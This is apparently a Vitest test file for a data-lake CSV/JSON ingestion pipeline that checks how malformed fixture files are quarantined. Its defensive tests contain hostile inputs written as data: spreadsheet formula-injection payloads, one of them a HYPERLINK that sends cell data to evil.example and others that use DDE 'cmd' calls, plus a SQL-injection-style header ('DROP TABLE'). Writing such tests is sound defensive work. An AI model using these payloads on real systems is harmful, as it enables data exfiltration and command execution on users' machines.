import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Manifest } from '#platform/ports.ts';
import { accounting, FIXTURES, testLake, type TestLake } from './lake.ts';

/**
 * The bad-input corpus (test/fixtures/bad-input): `good.csv` makes the `orders` contract on
 * first sight; every other file is a later upload of the same dataset, checked against it,
 * except the files that bring a dataset of their own (`dataset`), whose contract they make.
 * Each expectation is the line, the column and the reason a person would act on.
 *
 * Each file is checked in a dataset of its own that `good.csv` started (uploaded as
 * `incoming/orders/<file>` with the dataset named), so that one file's outcome never depends
 * on another's; the last test then uploads the whole corpus to one dataset, in turn.
 */

interface Expected {
  file: string;
  /** The dataset it is uploaded to, as `incoming/<dataset>/<file>`. Default `orders`. */
  dataset?: string;
  /** The file error, when the whole file is refused. */
  fileError?: RegExp;
  /** The manifest's warnings, in order (none when absent). */
  warnings?: RegExp[];
  rowsRead: number;
  /** Quarantined rows: line -> [column, reason] of each reason. Every other row is curated. */
  rejected: Record<number, [string, string | RegExp][]>;
}

const HEADER_ERROR: [string, string][] = [['(header)', 'the header does not name the columns']];

const CORPUS: Expected[] = [
  // First: it makes the orders contract (order_id id, order_date time, customer_id and
  // channel dimensions, amount double, quantity integer; events, by month).
  { file: 'good.csv', rowsRead: 6, rejected: {} },
  {
    file: 'non-numeric.csv',
    rowsRead: 5,
    rejected: {
      3: [['amount', 'not a number: "n/a"']],
      4: [['quantity', 'not a number: "two"']],
      5: [['quantity', 'not a whole number: "1.5"']],
    },
  },
  {
    // `04/05/2024` is a date, but could be 5 April or 4 May: read month first, and said.
    file: 'bad-date.csv',
    warnings: [
      /^order_date: dates like "04\/05\/2024" could be month\/day or day\/month .* read as month\/day\/year/,
    ],
    rowsRead: 5,
    rejected: {
      3: [['order_date', 'not a date (YYYY-MM-DD, MM/DD/YYYY or 7 Jan 2024): "2024-13-45"']],
      4: [['order_date', 'not a date (YYYY-MM-DD, MM/DD/YYYY or 7 Jan 2024): "2024-02-30"']],
    },
  },
  {
    file: 'empty.csv',
    fileError: /^incoming\/orders\/empty\.csv is empty: no header and no rows$/,
    rowsRead: 0,
    rejected: {},
  },
  {
    file: 'header-only.csv',
    fileError: /^incoming\/orders\/header-only\.csv has a header but no data rows$/,
    rowsRead: 0,
    rejected: {},
  },
  {
    file: 'ragged.csv',
    rowsRead: 5,
    rejected: {
      3: [['quantity', 'too few fields: expected 6, found 4']],
      5: [['field 7', 'too many fields: expected 6, found 8']],
    },
  },
  {
    file: 'missing-column.csv',
    fileError:
      /^incoming\/orders\/missing-column\.csv: required column amount is missing \(the file has: order_id, order_date, customer_id, quantity, channel\)$/,
    rowsRead: 3,
    rejected: {
      2: [['amount', 'required column is missing from the file']],
      3: [['amount', 'required column is missing from the file']],
      4: [['amount', 'required column is missing from the file']],
    },
  },
  {
    // Line 2's record spans lines 2-3, line 4 is blank, line 7's record spans 7-8: the
    // lines are where each record starts in an editor.
    file: 'quoted-newlines.csv',
    rowsRead: 6,
    rejected: {
      5: [['amount', 'not a number: "oops"']],
      9: [['order_date', 'not a date (YYYY-MM-DD, MM/DD/YYYY or 7 Jan 2024): "2024-13-01"']],
    },
  },
  {
    file: 'duplicate-header.csv',
    fileError:
      /^incoming\/orders\/duplicate-header\.csv: header columns 2 \("Order Date"\) and 3 \("order_date"\) both name the column order_date$/,
    rowsRead: 2,
    rejected: { 2: HEADER_ERROR, 3: HEADER_ERROR },
  },
  {
    // `1 000`: thousands grouped by a space, read as 1000.
    file: 'bom-crlf.csv',
    rowsRead: 3,
    rejected: {},
  },
  {
    // Read as Windows-1252 with a warning: nothing is lost, `Café` is curated as such.
    file: 'not-utf8.csv',
    warnings: [/^read as Windows-1252 \(Latin-1\)/],
    rowsRead: 3,
    rejected: {},
  },
  {
    file: 'duplicate-id.csv',
    rowsRead: 3,
    rejected: { 4: [['order_id', 'duplicate value (an earlier row has it): "O901"']] },
  },
  {
    file: 'empty-required.csv',
    rowsRead: 4,
    rejected: {
      3: [['order_date', 'required value is empty']],
      4: [['order_id', 'required value is empty']],
      // Line 5 is kept: customer_id references no dataset (a dimension here) and channel is a
      // dimension; only ids, times and foreign keys are required.
    },
  },
  {
    file: 'semicolon.csv',
    rowsRead: 2,
    rejected: { 3: [['amount', 'not a number: "1,50"']] },
  },
  {
    file: 'unterminated-quote.csv',
    rowsRead: 2,
    rejected: { 3: [['channel', /^badly quoted value/]] },
  },
  {
    // Wanted (today the header is read as five garbled column names and each of 37 "rows"
    // is quarantined as not UTF-8): the file is refused as a whole, saying it is not text.
    file: 'binary-garbage.csv',
    fileError: /^incoming\/orders\/binary-garbage\.csv\b.*\b(binary|not (a )?text)/i,
    rowsRead: 0,
    rejected: {},
  },
  {
    // No tab in the header: the content decides, the `;` splits the fields.
    file: 'semicolon.tsv',
    rowsRead: 2,
    rejected: {},
  },
  {
    file: 'pipes.csv',
    rowsRead: 3,
    rejected: { 3: [['amount', 'not a number: "2,50"']] },
  },
  {
    file: 'blank-header.csv',
    fileError:
      /^incoming\/orders\/blank-header\.csv: column 3 of the header has no usable name \(""\)$/,
    rowsRead: 2,
    rejected: { 2: HEADER_ERROR, 3: HEADER_ERROR },
  },
  {
    // Line 3's channel is 100,000 characters (with a quote, a comma and a line break in it),
    // curated whole; line 5's amount is 100,000 nines, too large for a number.
    file: 'long-field.csv',
    rowsRead: 3,
    rejected: { 5: [['amount', /^not a number: "9{20}/]] },
  },
  {
    // ISO, `01/06/2024` (ambiguous: read month first, and said) and `7 Jan 2024`: all dates.
    file: 'mixed-dates.csv',
    warnings: [/^order_date: dates like "01\/06\/2024" could be month\/day or day\/month/],
    rowsRead: 4,
    rejected: {},
  },
  {
    file: 'nan-infinity.csv',
    rowsRead: 5,
    rejected: {
      2: [['amount', 'not a number: "NaN"']],
      3: [['amount', 'not a number: "Infinity"']],
      4: [['amount', 'not a number: "-inf"']],
      5: [['quantity', 'not a number: "nan"']],
    },
  },
  {
    // Returns and refunds: an inferred contract has no minimum, so negative quantities and
    // amounts are curated as they are (a contract with `checks.min: 0` rejects them).
    file: 'negative-quantity.csv',
    rowsRead: 3,
    rejected: {
      2: [['quantity', 'below the minimum 0: "-1"']],
      3: [['quantity', 'below the minimum 0: "-2"']],
    },
  },
  {
    // Text columns keep `=1+1`, `+cmd|...`, `@SUM(...)` exactly as written (the CSV export
    // neutralises them); in a numeric column `=1+2` is not a number.
    file: 'formula-injection.csv',
    rowsRead: 5,
    rejected: { 6: [['amount', 'not a number: "=1+2"']] },
  },
  {
    file: 'not-gzip.csv.gz',
    fileError: /^incoming\/orders\/not-gzip\.csv\.gz is not a readable gzip file\b/,
    rowsRead: 0,
    rejected: {},
  },
  {
    file: 'gzipped.csv.gz',
    rowsRead: 3,
    rejected: { 3: [['amount', 'not a number: "two"']] },
  },
  {
    // Wanted (today the whole file is refused, naming line 3, and its good rows are not
    // curated): the malformed line is quarantined with its text, as a CSV record that
    // cannot be split is, and the other lines are curated.
    file: 'malformed-line.jsonl',
    rowsRead: 3,
    rejected: { 2: [['(row)', /JSON/]] },
  },
  {
    // An array's records are numbered as items (item 2 stands on line 3 of the file).
    file: 'wrong-type.json',
    rowsRead: 3,
    rejected: {
      2: [['amount', 'not a number: "lots"']],
      3: [['quantity', 'not a number: "true"']],
    },
  },
  {
    // Its own dataset: columns named select, from, order, group; `from` is the time column,
    // so it is required.
    file: 'sql-keywords.csv',
    dataset: 'keywords',
    rowsRead: 4,
    rejected: { 4: [['from', 'required value is empty']] },
  },
  {
    // Its own dataset: `"a""b"` and `x'; DROP TABLE y; --` name the columns a_b and
    // x_drop_table_y.
    file: 'sql-header.csv',
    dataset: 'odd_header',
    rowsRead: 2,
    rejected: {},
  },
  {
    // Every line ends with a comma: the header's 7th name is empty. Nothing is lost, but the
    // whole file waits for a fix (see the fixture README).
    file: 'trailing-delimiter.csv',
    fileError:
      /^incoming\/orders\/trailing-delimiter\.csv: column 7 of the header has no usable name \(""\)$/,
    rowsRead: 2,
    rejected: { 2: HEADER_ERROR, 3: HEADER_ERROR },
  },
  {
    file: 'whitespace-only.csv',
    fileError: /^incoming\/orders\/whitespace-only\.csv is empty: no header and no rows$/,
    rowsRead: 0,
    rejected: {},
  },
  {
    file: 'utf16-bom.csv',
    warnings: [/^read as UTF-16 LE\b/],
    rowsRead: 3,
    rejected: { 4: [['amount', 'not a number: "n/a"']] },
  },
  {
    file: 'only-delimiters.csv',
    rowsRead: 3,
    rejected: {
      3: [
        ['order_id', 'required value is empty'],
        ['order_date', 'required value is empty'],
      ],
    },
  },
];

/** Every file of the corpus folder: the tests below run over these, not over CORPUS. */
const FILES = readdirSync(FIXTURES, { withFileTypes: true })
  .filter((entry) => entry.isFile() && entry.name !== 'README.md')
  .map((entry) => entry.name)
  .sort();

const expectationOf = (file: string) => CORPUS.find((e) => e.file === file);

/** The dataset a file is checked in: its own, or `orders_<file>` that good.csv started. */
const datasetOf = (file: string) =>
  expectationOf(file)?.dataset ?? `orders_${file.replace(/[^a-z0-9]+/g, '_')}`;

describe('bad inputs', () => {
  let lake: TestLake;
  const manifests = new Map<string, Manifest>();
  const manifestOf = (file: string) => {
    const manifest = manifests.get(file);
    if (!manifest) throw new Error(`${file} was not ingested`);
    return manifest;
  };

  beforeAll(async () => {
    lake = await testLake();
    // Every file of the folder, those without an expectation too (their accounting is
    // still checked).
    const good = readFileSync(join(FIXTURES, 'good.csv'));
    for (const file of FILES) {
      const own = expectationOf(file)?.dataset;
      const dataset = datasetOf(file);
      if (!own && file !== 'good.csv') {
        const first = await lake.ingest('incoming/orders/good.csv', good, dataset);
        expect(first.manifest.rowsCurated).toBe(6);
      }
      const key = `incoming/${own ?? 'orders'}/${file}`;
      const bytes = readFileSync(join(FIXTURES, file));
      manifests.set(file, (await lake.ingest(key, bytes, dataset)).manifest);
    }
  });
  afterAll(() => lake.close());

  it('has an expectation and a README line for every file, and a file for every expectation', () => {
    expect(CORPUS.map((e) => e.file).sort()).toEqual(FILES);
    expect(new Set(CORPUS.map((e) => e.file)).size).toBe(CORPUS.length);
    expect(FILES.length).toBeGreaterThanOrEqual(30);
    const readme = readFileSync(join(FIXTURES, 'README.md'), 'utf8');
    for (const file of FILES) expect(readme, file).toContain(`| \`${file}\` |`);
  });

  it.each(CORPUS)('$file: the clear error, with its line and column', async (expected) => {
    const manifest = manifestOf(expected.file);
    expect(manifest.sourceKey).toBe(`incoming/${expected.dataset ?? 'orders'}/${expected.file}`);
    if (expected.fileError) expect(manifest.fileError).toMatch(expected.fileError);
    else expect(manifest.fileError).toBeUndefined();
    const warnings = manifest.warnings ?? [];
    expect(warnings).toHaveLength(expected.warnings?.length ?? 0);
    expected.warnings?.forEach((w, i) => expect(warnings[i]).toMatch(w));
    expect(manifest.rowsRead).toBe(expected.rowsRead);
    expect(manifest.rowsCurated).toBe(expected.rowsRead - Object.keys(expected.rejected).length);

    const quarantine = await lake.quarantineOf(manifest);
    const got = Object.fromEntries(
      quarantine.map((q) => [q.line, q.reasons.map((r) => [r.column, r.reason])]),
    );
    expect(Object.keys(got).map(Number)).toEqual(Object.keys(expected.rejected).map(Number));
    for (const [line, reasons] of Object.entries(expected.rejected)) {
      expect(got[line]).toHaveLength(reasons.length);
      reasons.forEach(([column, reason], i) => {
        expect(got[line]![i]![0]).toBe(column);
        if (typeof reason === 'string') expect(got[line]![i]![1]).toBe(reason);
        else expect(got[line]![i]![1]).toMatch(reason);
      });
    }
  });

  // Over the folder, not over CORPUS: a file added without an expectation is checked too.
  it.each(FILES)('%s: rows read = curated + quarantined, counted in the lake', async (file) => {
    const m = manifestOf(file);
    const counts = await accounting(lake, m);
    expect(counts.curated + counts.quarantined).toBe(counts.read);
    expect(counts.curated).toBe(counts.manifestCurated);
    expect(counts.quarantined).toBe(counts.manifestQuarantined);
    // One JSON line per quarantined row, none when nothing is quarantined.
    const text = await lake.quarantineText(m);
    if (m.rowsQuarantined === 0) expect(text).toBeUndefined();
    else {
      expect(text!.endsWith('\n')).toBe(true);
      expect(text!.split('\n').length - 1).toBe(m.rowsQuarantined);
    }
    const rejections = m.rejections.reduce((sum, r) => sum + r.rows, 0);
    expect(rejections).toBeGreaterThanOrEqual(m.rowsQuarantined);
  });

  it('keeps the values of a rejected row as the file has them', async () => {
    const [row] = await lake.quarantineOf(manifestOf('non-numeric.csv'));
    expect(row).toEqual({
      line: 3,
      values: {
        order_id: 'O102',
        order_date: '2024-04-02',
        customer_id: 'C2',
        amount: 'n/a',
        quantity: '1',
        channel: 'web',
      },
      reasons: [{ column: 'amount', reason: 'not a number: "n/a"' }],
    });
    const [ragged] = await lake.quarantineOf(manifestOf('ragged.csv'));
    expect(ragged).toMatchObject({ line: 3, values: null, raw: 'O302,2024-04-02,C2,1.00' });
  });

  it('aggregates rejections by column and reason in the manifest', () => {
    expect(manifestOf('non-numeric.csv').rejections).toEqual(
      [
        { column: 'quantity', reason: 'not a number', rows: 1 },
        { column: 'quantity', reason: 'not a whole number', rows: 1 },
        { column: 'amount', reason: 'not a number', rows: 1 },
      ].sort(
        (a, b) =>
          b.rows - a.rows || a.column.localeCompare(b.column) || a.reason.localeCompare(b.reason),
      ),
    );
  });

  it('still curates the good rows of a file with bad ones, typed', async () => {
    const m = manifestOf('quoted-newlines.csv');
    expect(m.rowsCurated).toBe(4);
    const rows = await lake.duck.all(
      `SELECT order_id, channel, amount FROM read_parquet('${lake.root}/curated/${m.dataset}/*/${m.sourceId}.parquet') ORDER BY order_id`,
    );
    expect(rows).toEqual([
      { order_id: 'O501', channel: 'web\nshop', amount: 1 },
      { order_id: 'O503', channel: 'store', amount: 2 },
      { order_id: 'O504', channel: 'a "quoted"\nvalue', amount: 2 },
      { order_id: 'O506', channel: 'web', amount: 3 },
    ]);
  });

  it('stores formula-like text exactly as written, as text', async () => {
    const rows = await lake.curated(
      datasetOf('formula-injection.csv'),
      'order_id, customer_id, channel, typeof(customer_id) AS t1, typeof(channel) AS t2',
      `WHERE order_id LIKE 'F%' ORDER BY order_id`,
    );
    expect(rows).toEqual(
      [
        {
          order_id: 'F001',
          customer_id: '=1+1',
          channel: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        },
        { order_id: 'F002', customer_id: '+C2', channel: "+cmd|' /C calc'!A0" },
        { order_id: 'F003', customer_id: '-C3', channel: "-2+3+cmd|' /C calc'!A0" },
        { order_id: 'F004', customer_id: '@C4', channel: "@SUM(1+1)*cmd|' /C calc'!A0" },
      ].map((r) => ({ ...r, t1: 'VARCHAR', t2: 'VARCHAR' })),
    );
  });

  it('quarantines negative counts, and curates negative amounts as numbers', async () => {
    // The orders contract, inferred from good.csv, says quantity (a count, never negative
    // there) has a minimum of 0; an amount may be negative (a refund).
    const contract = await lake.catalog.getContract(datasetOf('negative-quantity.csv'));
    expect(contract?.columns.find((c) => c.name === 'quantity')?.checks).toEqual({ min: 0 });
    expect(contract?.columns.find((c) => c.name === 'amount')?.checks).toBeUndefined();
    const rows = await lake.curated(
      datasetOf('negative-quantity.csv'),
      'order_id, quantity, amount',
      `WHERE order_id LIKE 'G%' ORDER BY order_id`,
    );
    expect(rows).toEqual([{ order_id: 'G003', quantity: 1, amount: 3 }]);
  });

  it('keeps a 100,000-character value whole, in the curated data and in the quarantine', async () => {
    const [curated] = await lake.curated(
      datasetOf('long-field.csv'),
      'length(channel) AS n, right(channel, 7) AS tail',
      `WHERE order_id = 'L002'`,
    );
    expect(curated).toEqual({ n: 100_000, tail: 'x, "q"\n' });
    const quarantine = await lake.quarantineOf(manifestOf('long-field.csv'));
    expect(quarantine.map((q) => q.line)).toEqual([5]);
    expect(quarantine[0]!.values!['amount']).toBe('9'.repeat(100_000));
  });

  it('quotes a 100,000-character value short in the reason a person reads', async () => {
    // Wanted: today the reason repeats all 100,000 characters, and so do the manifest's
    // sample and the CLI's warning line. The values keep the whole value (test above).
    const quarantine = await lake.quarantineOf(manifestOf('long-field.csv'));
    expect(quarantine.map((q) => q.line)).toEqual([5]);
    expect(quarantine[0]!.reasons[0]!.reason).toMatch(/^not a number: "9{20}/);
    expect(quarantine[0]!.reasons[0]!.reason.length).toBeLessThanOrEqual(200);
  });

  it('reads text that is not UTF-8 into the same values', async () => {
    for (const [file, id] of [
      ['not-utf8.csv', 'O802'],
      ['utf16-bom.csv', 'U002'],
    ] as const) {
      const rows = await lake.curated(
        datasetOf(file),
        'order_id, customer_id',
        `WHERE order_id = '${id}'`,
      );
      expect(rows, file).toEqual([{ order_id: id, customer_id: 'Café' }]);
    }
  });

  it('takes SQL keywords and SQL metacharacters in a header as column names, safely', async () => {
    const keywords = await lake.catalog.getContract('keywords');
    expect(keywords?.columns.map((c) => [c.name, c.type])).toEqual([
      ['select', 'string'],
      ['from', 'date'],
      ['order', 'integer'],
      ['group', 'string'],
    ]);
    expect(
      await lake.curated('keywords', '"select", "order", "group"', 'ORDER BY "select"'),
    ).toEqual([
      { select: 'S1', order: 3, group: 'north' },
      { select: 'S2', order: 5, group: 'south' },
      { select: 'S4', order: 9, group: 'north' },
    ]);

    const odd = await lake.catalog.getContract('odd_header');
    expect(odd?.columns.map((c) => c.name)).toEqual(['a_b', 'x_drop_table_y', 'amount']);
    expect(await lake.curated('odd_header', 'a_b, x_drop_table_y, amount', 'ORDER BY a_b')).toEqual(
      [
        { a_b: 'v1', x_drop_table_y: 'w1', amount: 1.5 },
        { a_b: 'v2', x_drop_table_y: 'w2', amount: 2.5 },
      ],
    );
  });
  it('leaves the contract as good.csv made it when the whole corpus is uploaded in turn', async () => {
    // Every file is an upload of one dataset, `orders`, one after the other: a file that is
    // refused, or whose rows are, must not change what the next upload is checked against.
    const sequence = await testLake();
    try {
      await sequence.ingestFixture('orders', 'good.csv');
      const contract = await sequence.catalog.getContract('orders');
      for (const { file, dataset } of CORPUS) {
        if (file !== 'good.csv' && !dataset) await sequence.ingestFixture('orders', file);
      }
      expect(await sequence.catalog.getContract('orders')).toEqual(contract);
      const again = await sequence.ingest(
        'incoming/orders/good-again.csv',
        readFileSync(join(FIXTURES, 'good.csv')),
      );
      expect(again.manifest).toMatchObject({ rowsRead: 6, rowsCurated: 6, rowsQuarantined: 0 });
      expect(again.manifest.fileError).toBeUndefined();
    } finally {
      await sequence.close();
    }
  });
});
